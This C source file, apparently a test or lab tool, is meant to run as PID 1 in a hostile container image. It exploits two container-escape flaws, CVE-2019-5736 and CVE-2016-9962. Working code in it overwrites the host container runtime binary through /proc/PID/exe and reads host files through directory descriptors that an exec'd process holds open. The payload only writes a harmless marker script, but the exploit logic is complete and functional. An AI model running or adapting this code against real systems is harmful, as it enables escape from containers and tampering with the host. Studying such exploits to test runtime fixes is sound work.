// SPDX-License-Identifier: MIT
/* lurk: PID 1 of a hostile image. It waits for a process that comes from outside (`exec`) and, in
 * the moments before that has become the image's program, reaches through it to the host.
 *
 *     lurk exe             write to the file that it runs: the runtime itself (CVE-2019-5736)
 *     lurk fd NAME         print the file NAME in any directory that it holds open (CVE-2016-9962)
 *
 * It says "watching" when it does, and "got it" with what it got. It gives up after a minute.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char stamp[] = "#!/bin/sh\necho overwritten\n";

/* The file cannot be written while it runs (ETXTBSY), but a descriptor outlives the process. */
static int overwrite(int pid)
{
    char path[64];
    struct stat mine, its;
    snprintf(path, sizeof(path), "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    if (stat("/proc/self/exe", &mine) < 0 || fstat(fd, &its) < 0 ||
        (its.st_ino == mine.st_ino && its.st_dev == mine.st_dev)) {
        close(fd);
        return 0;
    }
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (int i = 0; i < 2000; i++) {
        int writable = open(path, O_WRONLY | O_TRUNC | O_CLOEXEC);
        if (writable >= 0 && write(writable, stamp, strlen(stamp)) > 0)
            return 1;
        usleep(1000);
    }
    close(fd);
    return 0;
}

static int read_through(int pid, const char *name)
{
    char path[600], text[100];
    for (int n = 3; n < 30; n++) {
        snprintf(path, sizeof(path), "/proc/%d/fd/%d/%s", pid, n, name);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        ssize_t got = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
        if (fd >= 0)
            close(fd);
        if (got > 0)
            return printf("%.*s", (int)got, text) > 0;
    }
    return 0;
}

static int look(const char *name)
{
    DIR *proc = opendir("/proc");
    int found = 0;
    for (struct dirent *e = proc ? readdir(proc) : NULL; e && !found; e = readdir(proc)) {
        int pid = atoi(e->d_name);
        if (pid > 1)
            found = name ? read_through(pid, name) : overwrite(pid);
    }
    if (proc)
        closedir(proc);
    return found;
}

int main(int argc, char **argv)
{
    const char *name = argc > 2 && strcmp(argv[1], "fd") == 0 ? argv[2] : NULL;
    setvbuf(stdout, NULL, _IOLBF, 0);
    puts("watching");
    for (time_t end = time(NULL) + 60; time(NULL) < end;)
        if (look(name)) {
            puts("got it");
            pause();
        }
    return 0;
}
